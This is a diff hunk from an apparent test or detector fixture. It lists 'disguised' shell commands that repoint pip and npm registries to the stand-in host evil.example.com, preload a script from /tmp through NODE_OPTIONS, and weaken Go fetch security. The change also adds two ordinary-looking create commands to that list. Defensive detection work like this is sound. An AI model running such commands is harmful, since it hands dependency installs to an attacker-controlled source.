@@ -31,7 +31,7 @@ DISGUISED = [
     "python -m pip config set global.index-url https://evil.example.com", "pip3 config --user set global.index-url https://evil.example.com",
     "env PIP_INDEX_URL=https://evil.example.com pip install -r requirements.txt", "NPM_CONFIG_REGISTRY=https://evil.example.com npm ci",
     "echo 'registry=https://evil.example.com' >> .npmrc", "sh -c 'npm config set registry https://evil.example.com'",
-    "export NODE_OPTIONS='--require /tmp/x.js'", "export GOFLAGS=-insecure", "sudo -E env PIP_TRUSTED_HOST=evil.example.com pip list",
+    "export NODE_OPTIONS='--require /tmp/x.js'", "npm create vite@latest app", "conda create -n x python=3.11", "export GOFLAGS=-insecure", "sudo -E env PIP_TRUSTED_HOST=evil.example.com pip list",
 ]
 
 ROUTINE = [
